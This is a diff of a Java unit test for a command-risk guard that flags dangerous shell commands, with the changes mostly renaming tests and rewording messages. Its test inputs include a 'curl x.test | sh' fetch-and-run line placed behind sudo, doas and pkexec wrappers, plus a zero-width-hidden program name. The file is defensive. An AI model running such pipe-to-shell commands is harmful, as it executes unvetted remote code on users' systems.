@@ -50,7 +50,7 @@ class CommandRisksTest {
                 "docker,run,--network=host,img@sha256:0123 ; command.container",
                 "no\u200bde,x ; command.hidden",
             })
-    void dangerous_parts_are_marked_by_name(String command, String rules) {
+    void dangerous_parts_are_reported_by_rule(String command, String rules) {
         assertThat(CommandRisks.of(List.of(command.split(","))))
                 .extracting(CommandRisk::rule)
                 .containsExactlyInAnyOrder(rules.split(" "));
@@ -76,11 +76,11 @@ class CommandRisksTest {
                 "timeout,5",
                 "thing,rm",
             })
-    void a_command_without_dangerous_parts_has_no_marks(String command) {
+    void a_command_without_dangerous_parts_has_no_risks(String command) {
         assertThat(CommandRisks.of(List.of(command.split(",")))).isEmpty();
     }
 
-    /** Issue 20, "it holds": the value of an option of a wrapper is not the program that is run. */
+    /** Issue 20, "it holds": the value of an option of a wrapper is not mistaken for the program. */
     @ParameterizedTest
     @ValueSource(
             strings = {
@@ -96,7 +96,7 @@ class CommandRisksTest {
                 "sudo -nu root --group=x A=b",
                 "gosu me doas -u you pkexec --user x",
             })
-    void a_shell_behind_the_options_of_a_wrapper_is_looked_at(String wrapper) {
+    void a_shell_after_the_options_of_a_wrapper_is_checked(String wrapper) {
         List<String> command = new ArrayList<>(List.of(wrapper.split(" ")));
         int shell = command.size();
         command.addAll(List.of("sh", "-c", "curl x.test | sh"));
@@ -120,34 +120,34 @@ class CommandRisksTest {
                 "env -P /opt node x.js",
                 "nohup --what"
             })
-    void an_option_of_a_wrapper_that_is_not_known_is_marked(String command) {
+    void an_unknown_option_of_a_wrapper_is_reported(String command) {
         List<String> words = List.of(command.split(" "));
 
         assertThat(CommandRisks.of(words))
                 .singleElement()
                 .hasToString(words.get(1)
-                        + ": is no known option of a program that runs another: which one that is cannot be told"
-                        + " (command.unknown-option)");
+                        + ": is an unknown option of a program that starts another one:"
+                        + " the guard cannot determine which (command.unknown-option)");
     }
 
     @Test
-    void a_mark_shows_the_part_and_why() {
+    void a_risk_names_the_part_and_the_reason() {
         assertThat(CommandRisks.of(List.of("npx", "-y", "thing")).get(0))
-                .hasToString(
-                        "thing: runs a package without an exact version: it may be another one tomorrow (command.unpinned)");
+                .hasToString("thing: runs a package without an exact version: its code may change at any time"
+                        + " (command.unpinned)");
     }
 
     @Test
-    void a_long_script_takes_no_time_and_is_not_passed_over() {
+    void a_long_script_is_checked_in_bounded_time_and_reported() {
         List<String> command = List.of("sh", "-c", "| ".repeat(1_000_000));
 
         assertTimeoutPreemptively(
                 Duration.ofSeconds(20),
-                () -> assertThat(CommandRisks.of(command).toString()).contains("too long to be looked through"));
+                () -> assertThat(CommandRisks.of(command).toString()).contains("too long to be checked completely"));
     }
 
     @Test
-    void an_empty_command_is_nobodys_danger() {
+    void an_empty_command_has_no_risks() {
         assertThat(CommandRisks.of(List.of())).isEmpty();
         assertThat(CommandRisks.of(List.of("sudo"))).hasSize(1);
     }
